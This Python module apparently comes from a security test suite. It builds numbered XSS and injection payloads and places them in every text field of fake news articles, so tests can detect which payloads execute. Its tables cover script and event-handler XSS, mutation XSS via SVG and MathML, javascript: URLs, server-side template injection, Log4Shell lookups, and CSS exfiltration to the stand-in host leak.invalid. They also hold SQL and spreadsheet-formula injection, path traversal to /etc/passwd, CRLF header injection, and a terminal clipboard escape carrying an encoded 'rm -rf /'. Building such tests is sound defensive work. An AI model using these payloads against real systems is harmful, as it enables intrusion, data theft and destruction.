"""Tables of attacks → the hostile texts that the safety tests put wherever text can stand, each with a number that tells which of them ran.

`JS` in a template becomes a call that reports the number (`ran(7)`), `URL` an address on a host of the attacker with the number in its path.
Collected from what has hurt others: filter evasion lists, mutation XSS, chat front ends that render citations, terminals that obey text.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote

ATTACKER = "leak.invalid"
"""The browser under test is told that this host is a listener of ours."""


@dataclass(frozen=True, slots=True)
class Payload:
    """`number` is what `ran` is called with when it runs; it says itself which article it went into."""

    number: int
    family: str
    text: str


SCRIPTS = [
    "<script>JS</script>",
    "<SCRIPT>JS</SCRIPT>",
    "</script><script>JS</script>",
    "<scr<script>ipt>JS</scr</script>ipt>",
    "<script src=URL></script>",
    "<script/x>JS</script>",
    "<script\n>JS</script\n>",
    "<script\x0c>JS</script>",
    "\"><script>JS</script>",
    "'><script>JS</script>",
    "--><script>JS</script>",
    "]]><script>JS</script>",
    "*/</style></script><script>JS</script>",
    "</title><script>JS</script>",
    "</textarea><script>JS</script>",
    "</noscript><script>JS</script>",
    "</template><script>JS</script>",
    "</select><script>JS</script>",
    "</xmp></iframe></noembed></plaintext><script>JS</script>",
    "<script type=module>JS</script>",
    "<script type=text/javascript language=javascript defer>JS</script>",
    "<script type=importmap>{\"imports\":{\"./dom.js\":\"URL\"}}</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"URL\"]}]}</script>",
    "<!--><script>JS</script-->",
    "<![CDATA[<script>JS</script>]]>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>JS</script>",
    "<script>JS//",
    "\";JS;//",
    "';JS;//",
    "`;JS;//${JS}",
    "\\\";JS;//",
    "\u2028JS//",
    "</script\n><img src=x onerror=JS>",
]  # fmt: skip

CARRIERS = [
    "<img src=x onerror=JS>",
    "<img/src=x/onerror=JS>",
    "<img src=x:x onerror=JS>",
    "<image src=x onerror=JS>",
    "<svg onload=JS>",
    "<svg/onload=JS>",
    "<body onload=JS>",
    "<body onpageshow=JS>",
    "<input autofocus onfocus=JS>",
    "<textarea autofocus onfocus=JS></textarea>",
    "<select autofocus onfocus=JS></select>",
    "<button autofocus onfocus=JS>x</button>",
    "<p tabindex=0 autofocus onfocus=JS>x</p>",
    "<details open ontoggle=JS><summary>x</summary></details>",
    "<video src=x onerror=JS></video>",
    "<video><source onerror=JS src=x></video>",
    "<audio src=x onerror=JS></audio>",
    "<iframe onload=JS></iframe>",
    "<iframe srcdoc='<script>parent.JS</script>'></iframe>",
    "<object data=x: onerror=JS></object>",
    "<embed src=x: onload=JS>",
    "<style onload=JS></style>",
    "<link rel=stylesheet href=x onerror=JS>",
    "<marquee onstart=JS>x</marquee>",
    "<x data-canary onclick=JS tabindex=1>x</x>",
    "<a data-canary onmouseover=JS onclick=JS href=#>x</a>",
    "<x data-canary contenteditable onbeforeinput=JS>x</x>",
    "<x data-canary oncontentvisibilityautostatechange=JS style=display:block;content-visibility:auto>x</x>",
    "<style>@keyframes k{}</style><x data-canary style=animation-name:k onanimationstart=JS>x</x>",
    "<x data-canary style=transition:1s ontransitionend=JS>x</x>",
    "<button popovertarget=p>x</button><p popover id=p onbeforetoggle=JS>x</p>",
    "<dialog open onclose=JS><form method=dialog><button>x</button></form></dialog>",
    "<meter onpointerrawupdate=JS>x</meter>",
    "<form><button formaction=javascript:JS>x</button></form>",
    "<input type=image src=x onerror=JS>",
]
BREAKOUTS = ["", '">', "'></textarea></title></style>-->"]

ATTRIBUTES = [
    "\" onmouseover=\"JS\" x=\"",
    "' onfocus='JS' autofocus tabindex='0",
    "` onerror=`JS`",
    "x onclick=JS ",
    "\" autofocus onfocus=\"JS\" tabindex=\"1",
    "\" style=\"background:url(URL)\" x=\"",
    "\" href=\"javascript:JS\" x=\"",
    "\" src=\"URL\" x=\"",
    "\" srcdoc=\"<script>JS</script>",
    "\" formaction=\"javascript:JS",
    "\" target=\"_top\" href=\"URL",
    "\" ping=\"URL",
    "\" data-dateline-ask=\"JS",
    "x\"/onload=\"JS",
    "\x00\" onfocus=\"JS",
]  # fmt: skip

VECTORS = [
    "<svg><script>JS</script></svg>",
    "<svg><script href=data:text/javascript,JS></script></svg>",
    "<svg><script xlink:href=URL></script></svg>",
    "<svg><a xlink:href=javascript:JS><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:JS /><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onload to=JS />",
    "<svg><animate onbegin=JS attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=JS /></svg>#x'/></svg>",
    "<svg><use href=URL#x /></svg>",
    "<svg><image href=URL /></svg>",
    "<svg><feImage href=URL /></svg>",
    "<svg><style><img src=x onerror=JS></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=JS>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=JS&gt;\">",
    "<math href=javascript:JS>x</math>",
    "<math><maction actiontype=statusline#URL xlink:href=javascript:JS>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>",
    "<noscript><p title=\"</noscript><img src=x onerror=JS>\">",
    "<table><td><svg><desc><img src=x onerror=JS>",
    "<template shadowrootmode=open><img src=x onerror=JS></template>",
]  # fmt: skip

ADDRESSES = [
    "javascript:JS",
    "JaVaScRiPt:JS",
    "java\tscript:JS",
    "java\nscript:JS",
    "java\rscript:JS",
    "\x01javascript:JS",
    " \u00a0javascript:JS",
    "javascript&colon;JS",
    "&#106;avascript:JS",
    "&#x6A&#x61vascript:JS",
    "%6Aavascript:JS",
    "javascript://leak.invalid/%0aJS",
    "https://news.example/\"onfocus=\"JS\"autofocus=\"",
    "https://news.example/' onclick='JS",
    "https://news.example/)[x](javascript:JS)",
    "https://news.example/?q=<script>JS</script>",
    "https://news.example/#:~:text=</script><script>JS</script>",
    "https://user:password@leak.invalid/",
    "https://news.example@leak.invalid/",
    "https://news.example\\@leak.invalid/",
    "https:\\\\leak.invalid\\x",
    "//leak.invalid/x",
    "\\\\leak.invalid\\x",
    "https:javascript:JS",
    "data:text/html,<script>JS</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=JS xmlns=http://www.w3.org/2000/svg>",
    "vbscript:JS",
    "blob:https://news.example/JS",
    "file:///etc/passwd",
    "view-source:javascript:JS",
    "feed:javascript:JS",
    "jar:https://leak.invalid!/x",
    "https://\u0430\u0440\u0440\u04cf\u0435.example/",
    "https://news.example:99999/",
    "https://[::1",
    "http://0x7f000001/URL",
]  # fmt: skip

LOADERS = [
    "<img src=URL>",
    "<img srcset='URL 1x'>",
    "<picture><source srcset=URL><img></picture>",
    "<link rel=stylesheet href=URL>",
    "<link rel=prefetch href=URL>",
    "<link rel=preload as=script href=URL>",
    "<link rel=modulepreload href=URL>",
    "<link rel=preconnect href=URL>",
    "<link rel=dns-prefetch href=URL>",
    "<link rel=icon href=URL>",
    "<link rel=manifest href=URL>",
    "<meta http-equiv=refresh content='0;url=URL'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<base href=URL>",
    "<iframe src=URL></iframe>",
    "<frameset><frame src=URL></frameset>",
    "<object data=URL></object>",
    "<embed src=URL>",
    "<video poster=URL></video>",
    "<audio src=URL autoplay></audio>",
    "<track default src=URL>",
    "<input type=image src=URL>",
    "<body background=URL>",
    "<table background=URL><td>x</td></table>",
    "<form action=URL method=post><input name=x value=1><button autofocus>x</button></form>",
    "<a data-canary ping=URL href=#x>x</a>",
    "<div data-canary style='background:url(URL)'>x</div>",
    "<style>@import 'URL';</style>",
    "<style>*{background:url(URL)}</style>",
    "<style>@font-face{font-family:x;src:url(URL)}*{font-family:x}</style>",
    "<script>new Image().src='URL'</script>",
    "<img src='URL?unfinished",
    "<plaintext><img src=URL>",
]  # fmt: skip

MARKDOWN = [
    "[x](javascript:JS)",
    "[x](<javascript:JS>)",
    "[x](java&#115;cript:JS)",
    "[x](JAVASCRIPT&colon;JS)",
    "[x](data:text/html;base64,PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=)",
    "[x](vbscript:JS)",
    "![x](URL)",
    "![x](URL \"t\")",
    "![x][1]\n\n[1]: URL",
    "\n\n[1]: URL \"x\"\n\n",
    "\n[^1]: ![x](URL)\n",
    "\n\n[2]: javascript:JS\n[3]: URL\n",
    "[x](URL \"a\\\" onmouseover=JS x=\\\"\")",
    "![\"onerror=\"JS](x)",
    "<javascript:JS>",
    "<URL>",
    "]( javascript:JS )",
    "[[1]](URL)",
    "`<img src=x onerror=JS>`",
    "```html\n<script>JS</script>\n```",
    "    <script>JS</script>",
    "> <img src=x onerror=JS>",
    "\n\n<details open ontoggle=JS>\n\n",
    "| a | b |\n|---|---|\n| <img src=x onerror=JS> | ![x](URL) |",
    "\n# heading\n===\n* list\n1. list\n---\n",
    "*a*_b_~~c~~**d**`e`\\\\[x\\](y)",
    "$$\\href{javascript:JS}{x}$$ \\(\\url{javascript:JS}\\)",
    "```mermaid\nflowchart LR\n a[\"<img src=x onerror=JS>\"]\n click a href \"javascript:JS\"\n```",
    ":::html\n<script>JS</script>\n:::",
    "<!-- --><img src=x onerror=JS><!-- -->",
    "www.leak.invalid/x and URL and mailto:a@leak.invalid",
    "[1](URL) [2][2] [1,2](URL)",
]  # fmt: skip

TEMPLATES = [
    "{{7*7}}",
    "{{constructor.constructor('JS')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=JS')}}",
    "${JS}",
    "#{7*7}",
    "<%= JS %>",
    "<?php echo 1 ?>",
    "{% import os %}{{os.popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{config}}{{request.environ}}",
    "{0.__class__.__init__.__globals__}",
    "%(secret)s %s %n",
    "${jndi:ldap://leak.invalid/x}",
    "[[${7*7}]]",
    "@(7*7) *{7*7} ~{x}",
    "{n} {words} {day}",
    "v-html=JS :href='javascript:JS' ng-app ng-csp",
    "$& $` $' $1 $$ \\1 \\g<0>",
]

UNSEEN = [
    "\u202eJS\u202c",
    "\u202dJS\u202c",
    "\u2066\u202e<script>JS</script>\u2069",
    "\u2067a\u2068b",
    "\u202e\u202e\u202e" * 20,
    "gro.elpmaxe\u202e.news",
    "\u200b<\u200bscript>JS</script>",
    "\ufeff<script>JS</script>",
    "\u00ad\u2060\u180e\u061c",
    "\u200d\u200c\ufe0f" * 30,
    "\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "Z\u0351\u0346\u0352\u0360" * 60,
    "\u0627\u0644\u0633\u0644\u0627\u0645 <img src=x onerror=JS>",
    "\u2028<script>JS</script>\u2029",
    "\u0085\u000b\u000c<img src=x onerror=JS>",
    "\ufffe\uffff\ufdd0",
    "\ue000\uf8ff\U0010ffff",
]

STYLES = [
    "</style><style>*{background:url(URL)}</style>",
    "}body{background:url(URL)}",
    "red;background:url(URL)",
    "red;}*{display:none!important}",
    "expression(JS)",
    "url(javascript:JS)",
    "-moz-binding:url(URL)",
    "behavior:url(URL)",
    "@import url(URL);",
    "\\3c script\\3e JS",
    "position:fixed;inset:0;z-index:99999;background:red",
    "<link rel=stylesheet href='data:text/css,*{background:url(URL)}'>",
    "<style>input[value^=a]{background:url(URL)}</style>",
]

NAMES = [
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "valueOf",
    "hasOwnProperty",
    "__defineGetter__",
    "__proto__[polluted]=1",
    "constructor[prototype][polluted]=1",
    "__proto__.polluted",
    '{"__proto__":{"polluted":1}}',
    '{"constructor":{"prototype":{"polluted":1}}}',
    "[object Object]",
    "NaN undefined null",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "'; DROP TABLE articles;--",
    "' OR '1'='1",
    '" NEAR(x, y) AND col:z* ^a',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]

TERMINAL = [
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H cleared",
    "\x1b]0;title\x07",
    "\x1b]8;;https://leak.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x1bP$qm\x1b\\",
    "\x1b[6n\x1b[c",
    "\x1b[?1049h",
    "\x9b31mred",
    "\x9d0;title\x9c",
    "\x05\x07\x08\x08\x08over",
    "right\rwrong",
    "a\x7f\x7fb",
    "\x0e\x0fshifted",
    "[red]rich[/red] [link=https://leak.invalid]x[/link]",
    "[/] [bold [blink]",
    ":warning: :bomb:",
    "\x1b[1A\x1b[2Kreplaced",
]

HEADERS = [
    "x\r\nSet-Cookie: canary=1",
    "x\r\n\r\n<script>JS</script>",
    "x\nLocation: https://leak.invalid/",
    "%0d%0aSet-Cookie:%20canary=1",
    "\u560d\u560aSet-Cookie: canary=1",
    "x\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=JS>",
    "a; charset=utf-7",
    '"; filename=x.html',
]

CODINGS = [
    "+ADw-script+AD4-JS+ADw-/script+AD4-",
    "&lt;script&gt;JS&lt;/script&gt;",
    "&amp;lt;script&amp;gt;JS",
    "&#60;script&#62;JS&#60;/script&#62;",
    "&#x3C;img src=x onerror=JS&#x3E;",
    "%3Cscript%3EJS%3C/script%3E",
    "%253Cscript%253EJS",
    "\\u003cscript\\u003eJS\\u003c/script\\u003e",
    "\\x3cscript\\x3eJS",
    "\uff1cscript\uff1eJS\uff1c/script\uff1e",
    "<\u017fcript>JS</\u017fcript>",
    "<scr\x00ipt>JS</script>",
    "\u00bcscript\u00beJS",
    "\x1b$B<script>JS</script>",
    "<%00script>JS</script>",
    "\\<script\\>JS",
]

CLOBBERING = [
    "<a data-canary id=dateline><a data-canary id=dateline name=url href=javascript:JS>",
    "<form name=body><input name=append></form>",
    "<img name=currentScript src=URL>",
    "<img name=createElement><img name=getElementById>",
    "<form id=question><input id=content name=attributes></form>",
    "<iframe name=fetch srcdoc=x></iframe>",
]

LONG = [
    "A" * 60_000,
    "<b>" * 4000 + "JS",
    "<img src=x onerror=JS>" * 700,
    "[" * 4000 + "](URL)",
    "> " * 3000 + "deep",
    "*a_" * 5000,
    "((((" * 3000,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 1500,
    "a\u0301" * 9000,
    "\n" * 5000 + "<script>JS</script>",
]

FAMILIES: dict[str, list[str]] = {
    "script tags": SCRIPTS,
    "event handlers": [before + carrier for before in BREAKOUTS for carrier in CARRIERS],
    "attributes": ATTRIBUTES,
    "SVG and MathML": VECTORS,
    "addresses": ADDRESSES,
    "loaders": LOADERS,
    "Markdown": MARKDOWN,
    "templates": TEMPLATES,
    "unseen characters": UNSEEN,
    "styles": STYLES,
    "names": NAMES,
    "terminal": TERMINAL,
    "headers": HEADERS,
    "codings": CODINGS,
    "clobbering": CLOBBERING,
    "long": LONG,
}


def payloads() -> list[Payload]:
    """All of them, numbered from 1 in a fixed order."""
    return [Payload(number, family, text) for number, (family, text) in enumerate(_all(), 1)]


def _all() -> Iterator[tuple[str, str]]:
    number = 0
    for family, templates in FAMILIES.items():
        for template in templates:
            number += 1
            yield family, template.replace("JS", f"ran({number})").replace("URL", f"http://{ATTACKER}/{number}")


def token(number: int) -> str:
    """A word that stands in one article alone: 7 → `quayag`."""
    letters = ""
    while number:
        number, digit = divmod(number, 23)
        letters = "abdefghiklmnopqrtuvwxyz"[digit] + letters
    return f"quay{letters}"


def article(payload: Payload) -> dict[str, str]:
    """A record with the payload in every field that takes text; it tells of one thing on one day, so that questions have an answer."""
    word, text = token(payload.number), payload.text
    return {
        "id": f"{word} {text}"[:512],
        "title": f"{word} {text}"[:1000],
        "source": f"{word} {text}"[:200],
        "author": text[:500],
        "url": text[:2000],
        "published_at": "2023-05-05",
        "text": f"The barge {word} was moored on 3 May 2023 beside {text} by its crew. {text}",
    }


def percent(payload: Payload) -> str:
    """An address that holds the payload as far as an address can."""
    return f"https://news.example/{token(payload.number)}/{quote(payload.text[:120])}"
